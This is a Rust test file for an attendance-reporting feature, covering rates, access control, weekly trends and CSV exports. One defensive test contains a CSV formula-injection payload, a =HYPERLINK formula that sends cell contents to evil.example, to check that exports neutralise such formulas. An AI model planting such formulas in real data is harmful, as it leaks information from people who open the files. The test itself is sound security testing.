//! Attendance reports on the demo's month of marks: each rate is (present + late) over the
//! sessions held, late counted apart, those under the threshold highlighted; students see
//! their own record and no one else's; every report comes as CSV, quoted properly.

use hub_model::attendance::{
    CohortIdRequest, CohortReportRequest, CsvFile, CsvReport, EnrollmentRequest, Mark, MarkAttendanceRequest,
};
use hub_model::cms::IdRequest;
use hub_model::ops;
use hub_model::profiles::ProfileBasics;
use hub_model::programs::EnrollmentStatus;
use hub_model::{ErrorKind, NoRequest};
use hub_tests::{user_id, Caller};
use sqlx::PgPool;

async fn running(pool: &PgPool) -> i64 {
    sqlx::query_scalar!("select id from cohorts where status = 'running'").fetch_one(pool).await.unwrap()
}

/// How many sessions of the cohort have been held (dated today or earlier).
async fn held(pool: &PgPool, cohort: i64) -> i64 {
    sqlx::query_scalar!(
        r#"select count(*) as "n!" from sessions where cohort_id = $1 and date <= current_date"#,
        cohort
    )
    .fetch_one(pool)
    .await
    .unwrap()
}

#[sqlx::test(migrator = "hub_core::MIGRATOR")]
async fn a_cohort_report_gives_each_students_rate_over_the_sessions_held(pool: PgPool) {
    hub_core::demo::seed(&pool).await.unwrap();
    let cohort = running(&pool).await;
    let lina = Caller::as_user(&pool, user_id(&pool, "lead@demo.digitalhub.dev").await);
    let report = CohortReportRequest { cohort_id: cohort, threshold: Some(0.9) };
    let report = lina.call::<ops::ReportCohort>(&report).await.unwrap();
    let held = held(&pool, cohort).await;
    assert_eq!(report.sessions_held, held);
    let students = &report.students;
    let dropped: i64 = sqlx::query_scalar!(
        r#"select count(*) as "n!" from enrollments where cohort_id = $1 and status <> 'dropped'"#,
        cohort
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    assert_eq!(students.len() as i64, dropped, "every student but those who dropped");
    for student in students {
        let counted = sqlx::query!(
            r#"select count(*) filter (where r.status in ('present', 'late')) as "attended!",
                      count(*) filter (where r.status = 'late') as "late!"
                 from attendance_records r join sessions s on s.id = r.session_id
                where r.enrollment_id = $1 and s.date <= current_date"#,
            student.enrollment_id
        )
        .fetch_one(&pool)
        .await
        .unwrap();
        let rate = student.rate.unwrap();
        assert!((rate - counted.attended as f64 / held as f64).abs() < 1e-9, "{student:?}");
        assert_eq!(student.late, counted.late, "late counted apart");
        let status: String =
            sqlx::query_scalar!("select status from enrollments where id = $1", student.enrollment_id)
                .fetch_one(&pool)
                .await
                .unwrap();
        let status: EnrollmentStatus = status.parse().unwrap();
        assert_eq!(student.enrollment_status, status);
        // A paused student is not on the roster to be marked: never flagged for it.
        assert_eq!(student.below, status != EnrollmentStatus::Paused && rate < 0.9, "{student:?}");
    }
    assert!(students.iter().any(|student| student.below), "the demo has someone under 90%");
    let paused = students.iter().find(|student| student.enrollment_status == EnrollmentStatus::Paused);
    let paused = paused.expect("the demo's running cohort has a paused student");
    assert!(paused.rate.unwrap() < 0.9 && !paused.below, "{paused:?}");
    let sara = Caller::as_user(&pool, user_id(&pool, "sara@demo.digitalhub.dev").await);
    let any_threshold = CohortReportRequest { cohort_id: cohort, threshold: None };
    let refused = sara.call::<ops::ReportCohort>(&any_threshold).await.unwrap_err();
    assert_eq!(refused.kind, ErrorKind::Forbidden);
    let too_high = CohortReportRequest { cohort_id: cohort, threshold: Some(1.5) };
    lina.refuses::<ops::ReportCohort>(&too_high, "threshold", "between 0 and 1").await;
}

#[sqlx::test(migrator = "hub_core::MIGRATOR")]
async fn a_student_sees_their_own_record_and_no_one_elses(pool: PgPool) {
    hub_core::demo::seed(&pool).await.unwrap();
    let nour = Caller::as_user(&pool, user_id(&pool, "student@demo.digitalhub.dev").await);
    let mine = nour.call::<ops::MyAttendance>(&NoRequest {}).await.unwrap();
    let record = &mine[0];
    assert!(!record.sessions.is_empty());
    let marked = record.sessions.iter().filter(|session| session.status.is_some()).count() as i64;
    let rate = &record.rate;
    assert_eq!(rate.present + rate.late + rate.absent + rate.excused, marked);
    let someone_else: i64 = sqlx::query_scalar!(
        "select e.id from enrollments e join users u on u.id = e.student_user_id
          where u.email <> 'student@demo.digitalhub.dev' and e.status = 'active' limit 1"
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    let theirs = EnrollmentRequest { enrollment_id: someone_else };
    let refused = nour.call::<ops::ReportStudent>(&theirs).await.unwrap_err();
    assert_eq!(refused.kind, ErrorKind::Forbidden);
    let own = EnrollmentRequest { enrollment_id: rate.enrollment_id };
    nour.call::<ops::ReportStudent>(&own).await.unwrap();
}

#[sqlx::test(migrator = "hub_core::MIGRATOR")]
async fn every_report_comes_as_csv_with_its_fields_quoted(pool: PgPool) {
    hub_core::demo::seed(&pool).await.unwrap();
    let cohort = running(&pool).await;
    let lina = Caller::as_user(&pool, user_id(&pool, "lead@demo.digitalhub.dev").await);
    let session: i64 = sqlx::query_scalar!(
        "select id from sessions where cohort_id = $1 and date <= current_date order by date desc limit 1",
        cohort
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    let roster = lina.call::<ops::AttendanceRoster>(&IdRequest { id: session }).await.unwrap();
    let student = roster.students[0].enrollment_id;
    let late = MarkAttendanceRequest {
        session_id: session,
        enrollment_id: student,
        status: Mark::Late,
        note: Some("Said \"sorry\", then sat down, quietly".to_owned()),
    };
    lina.call::<ops::MarkAttendance>(&late).await.unwrap();
    let by_session = lina.call::<ops::ExportCsv>(&CsvReport::Session { session_id: session }).await.unwrap();
    let text = &by_session.content;
    assert!(text.starts_with("student,mark,note,marked by,marked at\n"), "{text}");
    assert!(text.contains("late,\"Said \"\"sorry\"\", then sat down, quietly\""), "{text}");
    let students: i64 = sqlx::query_scalar!(
        r#"select count(*) as "n!" from enrollments where cohort_id = $1 and status <> 'dropped'"#,
        cohort
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    assert_eq!(
        text.lines().count() as i64,
        students + 1,
        "a line per student (paused ones too), and the header"
    );
    assert!(by_session.filename.ends_with(".csv"));

    let cohort_csv = |threshold| CsvReport::Cohort { cohort_id: cohort, threshold };
    let by_cohort = lina.call::<ops::ExportCsv>(&cohort_csv(None)).await.unwrap();
    assert!(by_cohort.content.starts_with(
        "student,enrollment,present,late,absent,excused,sessions held,rate %,below threshold\n"
    ));
    assert_eq!(by_cohort.filename, "attendance-autumn-2026.csv");
    // The threshold chosen on screen is the one the file marks by.
    let below = |csv: &CsvFile| csv.content.lines().filter(|line| line.ends_with(",yes")).count();
    let strict = lina.call::<ops::ExportCsv>(&cohort_csv(Some(0.95))).await.unwrap();
    let on_screen = CohortReportRequest { cohort_id: cohort, threshold: Some(0.95) };
    let on_screen = lina.call::<ops::ReportCohort>(&on_screen).await.unwrap();
    let on_screen = on_screen.students.iter().filter(|s| s.below).count();
    let nobody = lina.call::<ops::ExportCsv>(&cohort_csv(Some(0.0))).await.unwrap();
    assert_eq!(below(&nobody), 0);
    assert_eq!(below(&strict), on_screen, "the file marks whom the screen highlights");
    assert!(below(&strict) >= below(&by_cohort) && on_screen > 0);
    let by_student =
        lina.call::<ops::ExportCsv>(&CsvReport::Student { enrollment_id: student }).await.unwrap();
    assert!(by_student.content.starts_with("date,session,mark,note\n"));
}

#[sqlx::test(migrator = "hub_core::MIGRATOR")]
async fn each_session_held_is_reported_with_its_marks_counted(pool: PgPool) {
    hub_core::demo::seed(&pool).await.unwrap();
    let cohort = running(&pool).await;
    let lina = Caller::as_user(&pool, user_id(&pool, "lead@demo.digitalhub.dev").await);
    let sessions = lina.call::<ops::ReportSessions>(&CohortIdRequest { cohort_id: cohort }).await.unwrap();
    let held = held(&pool, cohort).await;
    assert_eq!(sessions.len() as i64, held, "every session held, none to come");
    let latest = &sessions[0];
    let counted = sqlx::query!(
        r#"select count(*) filter (where status = 'present') as "present!", count(*) filter (where status = 'absent') as "absent!"
             from attendance_records where session_id = $1"#,
        latest.session_id
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    assert_eq!((latest.present, latest.absent), (counted.present, counted.absent));
    let dates: Vec<_> = sessions.iter().map(|session| session.date).collect();
    let mut newest_first = dates.clone();
    newest_first.sort_unstable_by(|a, b| b.cmp(a));
    assert_eq!(dates, newest_first, "the latest first");
    let sara = Caller::as_user(&pool, user_id(&pool, "sara@demo.digitalhub.dev").await);
    let refused = sara.call::<ops::ReportSessions>(&CohortIdRequest { cohort_id: cohort }).await.unwrap_err();
    assert_eq!(refused.kind, ErrorKind::Forbidden);
}

/// A name or a note that a spreadsheet would run as a formula (a student renaming themselves
/// `=HYPERLINK(…)`) is written as text in every export an administrator opens.
#[sqlx::test(migrator = "hub_core::MIGRATOR")]
async fn a_name_or_a_note_a_spreadsheet_would_run_is_exported_as_text(pool: PgPool) {
    hub_core::demo::seed(&pool).await.unwrap();
    let cohort = running(&pool).await;
    let lina = Caller::as_user(&pool, user_id(&pool, "lead@demo.digitalhub.dev").await);
    let nour_id = user_id(&pool, "student@demo.digitalhub.dev").await;
    let nour = Caller::as_user(&pool, nour_id);
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Nour\")";
    let renamed = ProfileBasics { full_name: formula.to_owned(), ..ProfileBasics::default() };
    nour.call::<ops::UpdateMyProfiles>(&renamed).await.unwrap();
    let (session, enrollment) = sqlx::query!(
        "select s.id as session, e.id as enrollment from sessions s join enrollments e on e.cohort_id = s.cohort_id
          where s.cohort_id = $1 and s.date <= current_date and e.student_user_id = $2
          order by s.date desc limit 1",
        cohort,
        nour_id
    )
    .fetch_one(&pool)
    .await
    .map(|row| (row.session, row.enrollment))
    .unwrap();
    let late = MarkAttendanceRequest {
        session_id: session,
        enrollment_id: enrollment,
        status: Mark::Late,
        note: Some("@SUM(1+1)".to_owned()),
    };
    lina.call::<ops::MarkAttendance>(&late).await.unwrap();

    for report in [
        CsvReport::Session { session_id: session },
        CsvReport::Cohort { cohort_id: cohort, threshold: None },
        CsvReport::Student { enrollment_id: enrollment },
    ] {
        let file = lina.call::<ops::ExportCsv>(&report).await.unwrap();
        let cells: Vec<String> = csv::Reader::from_reader(file.content.as_bytes())
            .records()
            .flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect();
        let runnable: Vec<&String> =
            cells.iter().filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])).collect();
        assert_eq!(runnable, Vec::<&String>::new(), "{report:?}");
        let expected = match report {
            CsvReport::Student { .. } => "'@SUM(1+1)".to_owned(),
            CsvReport::Session { .. } | CsvReport::Cohort { .. } => format!("'{formula}"),
        };
        assert!(cells.contains(&expected), "{report:?}: {cells:?}");
    }
}

#[sqlx::test(migrator = "hub_core::MIGRATOR")]
async fn each_students_trend_runs_by_week_and_those_at_risk_come_with_their_last_absences(pool: PgPool) {
    // Fourteen sessions, one a day for the last two weeks: Ada comes to all, Ben misses all
    // but the last two, Cy comes every other day.
    let cohort = hub_tests::CohortBuilder::new(&pool, "web")
        .staff("karim@example.org", hub_model::programs::CohortRole::Instructor)
        .students(3)
        .sessions(14)
        .build()
        .await;
    sqlx::query(
        "insert into attendance_records (session_id, enrollment_id, status)
         select s.id, e.id,
                case when e.id = $2 then 'present'
                     when e.id = $3 then case when s.date >= current_date - 2 then 'late' else 'absent' end
                     when (current_date - s.date) % 2 = 0 then 'present' else 'absent' end
           from sessions s cross join enrollments e
          where s.cohort_id = $1 and e.cohort_id = $1",
    )
    .bind(cohort.id)
    .bind(cohort.enrollments[0])
    .bind(cohort.enrollments[1])
    .execute(&pool)
    .await
    .unwrap();
    let karim = Caller::as_user(&pool, cohort.staff[0]);
    let report = karim
        .call::<ops::ReportCohort>(&CohortReportRequest { cohort_id: cohort.id, threshold: None })
        .await
        .unwrap();
    let student =
        |enrollment: i64| report.students.iter().find(|row| row.enrollment_id == enrollment).unwrap();
    let (ada, ben, cy) =
        (student(cohort.enrollments[0]), student(cohort.enrollments[1]), student(cohort.enrollments[2]));
    // The weeks with a session held, oldest first: two or three, however today falls.
    let weeks: Vec<chrono::NaiveDate> = ada.weekly.iter().map(|week| week.week).collect();
    assert!(matches!(weeks.len(), 2 | 3), "{weeks:?}");
    assert!(weeks.windows(2).all(|pair| pair[0] < pair[1]), "oldest first: {weeks:?}");
    assert!(ada.weekly.iter().all(|week| week.rate == 1.0), "{:?}", ada.weekly);
    assert!(ben.weekly.last().unwrap().rate > 0.0, "Ben came (late) this week or last: {:?}", ben.weekly);
    assert!(ben.weekly.first().unwrap().rate == 0.0, "{:?}", ben.weekly);
    // Ben is under the cohort's 80%: his last three absences, newest first (3, 4 and 5 days ago).
    assert!(ben.below && !ada.below && cy.below);
    let today: chrono::NaiveDate = sqlx::query_scalar("select current_date").fetch_one(&pool).await.unwrap();
    assert_eq!(ben.last_absences, [3, 4, 5].map(|days| today - chrono::Duration::days(days)));
    assert!(ada.last_absences.is_empty());

    // The admin's home: this week across running cohorts, with who is under the threshold.
    let admin = Caller::admin(&pool).await;
    let overview = admin.call::<ops::AttendanceThisWeek>(&NoRequest {}).await.unwrap();
    let row = overview.cohorts.iter().find(|row| row.cohort_id == cohort.id).unwrap();
    assert_eq!((row.students_below, row.active_students), (2, 3));
    let this_week: i64 = sqlx::query_scalar(
        "select count(*) from sessions where cohort_id = $1 and date between date_trunc('week', current_date)::date and current_date",
    )
    .bind(cohort.id)
    .fetch_one(&pool)
    .await
    .unwrap();
    assert_eq!(row.sessions_this_week, this_week);
    assert_eq!(row.present + row.late + row.absent + row.excused + row.unmarked, this_week * 3);
    assert_eq!(
        karim.call::<ops::AttendanceThisWeek>(&NoRequest {}).await.unwrap_err().kind,
        ErrorKind::Forbidden
    );
}
